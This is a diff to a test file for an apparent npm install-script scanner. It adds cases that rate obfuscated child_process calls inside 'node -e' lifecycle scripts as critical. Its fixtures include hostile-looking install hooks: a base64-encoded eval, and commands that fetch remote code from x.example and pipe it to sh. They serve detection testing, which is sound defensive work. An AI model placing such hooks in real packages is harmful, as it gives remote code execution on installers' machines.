@@ -195,6 +195,10 @@ describe('install scripts', () => {
       'critical Lifecycle script "postinstall" runs the code it gives node -e at install, outside any sandbox, and that code does something dangerous',
     ]);
     expect((await verdict({ preinstall: `node -e "eval(Buffer.from('aWQ=','base64').toString())"` }))[0]).toMatch(/^critical/);
+    // `;`, `|` and `&&` inside the quoted code belong to the code, not to the shell line.
+    expect((await verdict({ postinstall: `node -e "const c='child_'+'process'; require(c).execSync('id')"` }))[0]).toMatch(/^critical/);
+    expect((await verdict({ postinstall: `node -e 'const n = 1; n && require("child_process").exec("id")'` }))[0]).toMatch(/^critical/);
+    expect((await verdict({ postinstall: `node -e "const a = [1, 2]; console.log(a.join('|') || 'none')"` }))[0]).toMatch(/^medium/);
     expect((await verdict({ install: `node -e "$(curl -s https://x.example/i.js)"` }))[0]).toMatch(/^critical/);
     // The rest of the line is judged as before.
     expect((await verdict({ postinstall: `node -e "console.log(1)" && curl -s https://x.example/i.sh | sh` }))[0]).toMatch(/^critical .*downloads/);
